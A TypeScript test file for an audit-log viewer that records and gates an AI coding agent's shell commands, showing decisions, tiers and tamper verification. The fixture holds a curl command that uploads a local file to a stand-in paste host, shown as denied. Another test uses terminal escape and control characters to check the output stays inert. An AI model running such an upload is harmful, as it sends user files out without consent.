// The audit log as a page: newest first, inert, and with the verifier's word at the top.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { auditPage } from '../../../src/core/report/audit-page.ts';
import { auditRecordText, verificationText } from '../../../src/core/report/audit-text.ts';

const record = (changes: Record<string, unknown> = {}) => ({
  v: 1,
  seq: 7,
  time: '2026-11-21T08:41:02.123Z',
  kind: 'decision',
  agent: { id: 'claude-code' },
  tool: 'Bash',
  command: 'curl -T notes.txt https://paste.invalid/upload',
  cwd: '/home/me/project',
  tier: 3,
  verdict: 'ask',
  capabilities: ['data-upload', 'network-fetch'],
  decision: 'denied',
  by: 'person',
  waitedMs: 4_210,
  detail: { code: 'k7m2qd', way: 'picked' },
  ...changes,
});
const tail = (...records: (Record<string, unknown> | undefined)[]) => ({
  records,
  total: 12,
  wanted: 12,
  folder: '/home/me/audit',
});

describe('auditPage', () => {
  it('shows a decision as a head, its command, and what belongs to it', () => {
    const lines = auditPage(tail(record()), undefined).text.split('\n');
    assert.deepEqual(lines.slice(0, 8), [
      'Audit log: the last 1 of 12, newest first',
      'Not verified yet: choose Verify above, or run Gatehouse: Verify Audit Log.',
      '/home/me/audit',
      '',
      '2026-11-21 08:41:02  #7     DENIED       tier 3  claude-code  Bash  by person after 4.2 s',
      '    curl -T notes.txt https://paste.invalid/upload',
      '    data-upload, network-fetch; in /home/me/project; code k7m2qd; way picked',
      '',
    ]);
  });

  it('writes the longest kind out', () => {
    const { text } = auditPage(tail(record({ kind: 'environment', decision: null, tier: null })), undefined);
    assert.match(text, / environment {2}claude-code/);
  });

  it('puts the newest first', () => {
    const { text } = auditPage(tail(record({ seq: 1 }), record({ seq: 2 })), undefined);
    assert.ok(text.indexOf('#2') < text.indexOf('#1'));
  });

  it('says how each ended in words and by a mark', () => {
    const kinds = ['denied', 'expired', 'approved', 'passed'].map((decision) => {
      const { text, stretches } = auditPage(tail(record({ decision })), undefined);
      const head = stretches.filter(({ line }) => line === 4)[2];
      return `${text.split('\n')[4]?.slice(head?.start, head?.end).trim()} ${head?.kind}`;
    });
    assert.deepEqual(kinds, ['DENIED bad', 'EXPIRED bad', 'APPROVED escape', 'passed good']);
    assert.match(auditPage(tail(record({ kind: 'request', decision: null })), undefined).text, /#7 {5}asked/);
    const opened = record({ kind: 'lifecycle', decision: null, command: null, tier: null, detail: { event: 'begun' } });
    assert.match(auditPage(tail(opened), undefined).text, /#7 {5}lifecycle.*event begun/s);
  });

  it('says what it was kept to, and leads to each record', () => {
    const filter = { agent: ['codex'], tier: ['2', '3'], outcome: [] };
    const { text, stretches } = auditPage({ ...tail(record()), wanted: 3 }, undefined, filter);
    const lines = text.split('\n');
    assert.equal(lines[0], 'Audit log: the last 1 of 3 that fit, of 12, newest first');
    assert.equal(lines[1], 'Only agent codex; tier 2 or 3. Choose Filter above for others.');
    const link = stretches.find(({ record: seq }) => seq === 7);
    assert.equal(lines[link?.line ?? 0]?.slice(link?.start, link?.end), '#7');
  });

  it('says of a line that it is no record', () => {
    assert.match(auditPage(tail(undefined), undefined).text, /no record: something else wrote or changed it/);
  });

  it('gives the verifier the first word, good or bad', () => {
    const intact = auditPage(tail(record()), {
      status: 'intact',
      records: 12,
      torn: 0,
      checkpoints: 0,
      chain: 'c'.repeat(32),
    });
    assert.match(intact.text, /\nIntact: 12 records\.\n/);
    assert.equal(intact.stretches.find(({ line }) => line === 1)?.kind, 'good');
    const broken = auditPage(tail(record()), { status: 'truncated', records: 3, why: 'Records are missing.' });
    assert.match(broken.text, /\nTruncated: Records are missing\.\n/);
    assert.equal(broken.stretches.find(({ line }) => line === 1)?.kind, 'bad');
  });

  it('is inert, and bounded for each record', () => {
    const hostile = record({
      command: `\u202e\u001b[2J${'x\n'.repeat(300)}`,
      tool: '\u200b',
      detail: { '\u2028': '\u0007' },
    });
    const { text } = auditPage(tail(hostile), undefined);
    assert.match(text, /^[^\p{Cf}\p{Zl}]*$/u);
    assert.doesNotMatch(text, /[^\n\P{Cc}]/u);
    assert.match(text, /rows more/);
    assert.ok(text.split('\n').length < 20);
  });

  it('takes records in which nothing is as expected', () => {
    for (const odd of [{}, { time: 3, agent: [], detail: 'x', command: 5, capabilities: {}, waitedMs: 'y', by: {} }]) {
      assert.ok(auditPage(tail(odd), undefined).text.length > 0);
    }
  });
});

describe('audit-text', () => {
  it('writes a record on one line', () => {
    assert.equal(
      auditRecordText(record({ command: 'a\nb' })),
      '2026-11-21T08:41:02.123Z  #7  decision  claude-code  Bash  tier 3  ask  → denied  by person  [data-upload, network-fetch]  code=k7m2qd  way=picked  a\\nb',
    );
  });

  it('says each thing that a verifier can find', () => {
    const at = { file: 'audit.jsonl', line: 4 };
    assert.equal(
      verificationText({ status: 'intact', records: 1, torn: 5, checkpoints: 0, chain: 'c'.repeat(32) }),
      'Intact: 1 record. The last 5 bytes are an unfinished record that nobody was told of.',
    );
    assert.equal(
      verificationText({ status: 'intact', records: 200, torn: 0, checkpoints: 3, chain: 'c'.repeat(32) }),
      `Intact: 200 records, 3 signed checkpoints, 7 records since the last, log ${'c'.repeat(32)}.`,
    );
    assert.equal(
      verificationText({ status: 'tampered', records: 1, why: 'No.', at }),
      'Tampered: No. (audit.jsonl, line 4)',
    );
    assert.equal(verificationText({ status: 'truncated', records: 1, why: 'No.' }), 'Truncated: No.');
    assert.equal(
      verificationText({ status: 'unknown-version', records: 1, why: 'No.', at }),
      'Unknown version: No. (audit.jsonl, line 4)',
    );
    assert.equal(verificationText({ status: 'unreadable', why: 'No.' }), 'Unreadable: No.');
  });
});
